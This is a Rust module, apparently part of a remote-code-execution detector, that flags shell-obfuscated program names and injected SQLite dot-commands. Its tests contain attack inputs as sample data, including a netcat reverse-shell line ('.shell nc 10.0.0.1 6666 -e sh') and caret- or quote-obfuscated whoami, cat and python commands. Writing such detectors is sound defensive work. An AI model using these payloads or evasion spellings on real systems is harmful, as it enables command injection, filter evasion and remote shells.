//! Command-line forms the RCE detector ([`super::rce`]) recognises beside separated
//! commands: a program name spelled with shell syntax inside it (`p''ing`, `pi$()ng`,
//! `w\ho\am\i`, `""p""y""t""h""o""n`), and SQLite shell dot-commands (`;.shell id`,
//! `\n.system nc ...`) that run programs from an injected SQL script.

/// Constructs that expand to nothing inside a shell word.
const EMPTY_CONSTRUCTS: &[&str] = &["$()", "<()", ">()", "${}", "``", "\"\"", "''", "$@", "$*"];

/// Word separators of a command line for this purpose (a word may hold `$()` and `<()`).
fn is_word_break(c: char) -> bool {
    c.is_whitespace() || matches!(c, ';' | '|' | '&' | ',' | '{' | '}' | '=')
}

/// True when a word (outer quotes removed) holds shell syntax a plain word never has.
fn evasive(word: &str) -> bool {
    if !word
        .bytes()
        .any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'^' | b'`' | b'$' | b'<' | b'>'))
    {
        return false;
    }
    // A Markdown code fence (```` ```bash ````) is not an empty substitution.
    if word.contains("```") {
        return false;
    }
    if EMPTY_CONSTRUCTS.iter().any(|c| word.contains(c)) || word.contains('^') {
        return true;
    }
    let quotes = word.bytes().filter(|b| matches!(b, b'\'' | b'"')).count();
    let escapes = word
        .as_bytes()
        .windows(2)
        .filter(|w| w[0] == b'\\' && w[1].is_ascii_alphanumeric())
        .count();
    quotes >= 2 || escapes >= 2 && !word.contains([':', '/'])
}

/// The word as a shell reads it: empty constructs, quotes, backslashes and carets dropped.
fn unquote(word: &str) -> String {
    let mut w = word.to_owned();
    for c in EMPTY_CONSTRUCTS {
        if w.contains(c) {
            w = w.replace(c, "");
        }
    }
    w.retain(|c| !matches!(c, '\'' | '"' | '\\' | '^' | '`'));
    w
}

/// Confidence and offset of a known program whose name is written with shell syntax
/// inside it; `known` answers whether a bare name is a program.
pub(crate) fn obfuscated_command(
    lower: &str,
    known: impl Fn(&str) -> bool,
) -> Option<(f32, usize)> {
    let mut at = 0;
    for word in lower.split(is_word_break).take(256) {
        let start = at;
        at += word.len() + 1;
        let inner = word.trim_matches(['\'', '"']);
        if inner.len() < 3 || inner.len() > 128 || !evasive(inner) {
            continue;
        }
        let clean = unquote(inner);
        let name = clean.rsplit(['/', '\\']).next().unwrap_or("");
        if name.len() >= 2 && name != inner && known(name) {
            return Some((0.85, start));
        }
    }
    None
}

/// SQLite shell commands that run programs or touch files, and the shortest prefix the
/// shell accepts for each.
const DOT_COMMANDS: &[(&str, usize, f32)] = &[
    ("shell", 2, 0.85),
    ("system", 2, 0.85),
    ("load", 4, 0.85),
    ("output", 3, 0.8),
    ("once", 4, 0.8),
    ("import", 3, 0.8),
    ("read", 4, 0.8),
    ("open", 4, 0.75),
    ("backup", 4, 0.75),
    ("restore", 4, 0.75),
    ("databases", 5, 0.75),
    ("tables", 5, 0.75),
    ("schema", 5, 0.72),
    ("dump", 4, 0.72),
];

/// Confidence and offset of a SQLite dot-command at the start of a line or statement:
/// `;.shell nc ...`, `;\n.system id`, `1;.sh whoami`.
pub(crate) fn sqlite_dot_command(lower: &str) -> Option<(f32, usize)> {
    let b = lower.as_bytes();
    let mut best: Option<(f32, usize)> = None;
    for (k, _) in lower.match_indices('.').take(64) {
        // What precedes: blanks, then a statement end or a line break (also written `\n`).
        let before = lower[..k].trim_end_matches([' ', '\t', '"', '\'', '\\']);
        let lead = before.ends_with([';', '\n', '\r']) || before.ends_with("\\n");
        if !lead {
            continue;
        }
        let mut i = k + 1;
        while i < b.len() && matches!(b[i], b'\\' | b'"' | b'\'') {
            i += 1;
        }
        let name_len = b[i..].iter().take_while(|c| c.is_ascii_lowercase()).count();
        let name = &lower[i..i + name_len];
        let after = b.get(i + name_len);
        if !(after.is_none() || after.is_some_and(|c| c.is_ascii_whitespace() || *c == b'\\')) {
            continue;
        }
        for (cmd, min, c) in DOT_COMMANDS {
            if name.len() >= *min && cmd.starts_with(name) && best.is_none_or(|(b, _)| *c > b) {
                best = Some((*c, k));
            }
        }
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    fn known(w: &str) -> bool {
        matches!(w, "ping" | "python3.10" | "whoami" | "cat" | "id")
    }

    #[test]
    fn finds_names_spelled_with_shell_syntax() {
        for v in [
            "pi$()ng 127.0.0.1",
            "ping$() 127.0.0.1",
            "pi``ng 127.0.0.1",
            "ping`` 127.0.0.1",
            "pi<()ng 127.0.0.1",
            "\"\"p\"\"y\"\"t\"\"h\"\"o\"\"n\"\"3\"\".\"\"1\"\"0\"\" \"\"c\"\"m\"\"d\"\"",
            "x;w\\ho\\am\\i",
            "p^i^n^g -n 1 host",
            "c'a't /etc/hosts",
        ] {
            assert!(obfuscated_command(v, known).is_some(), "{v}");
        }
    }

    #[test]
    fn plain_words_and_prose_are_not_obfuscation() {
        for v in [
            "ping 127.0.0.1",
            "'ping' me later",
            "\"cat\" videos",
            "rock'n'roll",
            "don't cat-sit",
            "c:\\windows\\cat",
            "'''cat''' is bold in a wiki",
            "```bash\nnpm install",
        ] {
            assert!(obfuscated_command(v, known).is_none(), "{v}");
        }
    }

    #[test]
    fn finds_sqlite_dot_commands_after_a_statement() {
        for v in [
            ";\n.shell nc 10.0.0.1 6666 -e sh",
            ";\\n.system id",
            "1;.sh whoami",
            "1;.\\\"shell whoami",
            ";\n.databases",
        ] {
            assert!(sqlite_dot_command(v).is_some(), "{v}");
        }
        for v in [
            "see the .shell file",
            "end of sentence. shell out",
            "a;b.sh",
            "v1.2;.5 mm",
            "x;.shelley",
        ] {
            assert!(sqlite_dot_command(v).is_none(), "{v}");
        }
    }
}
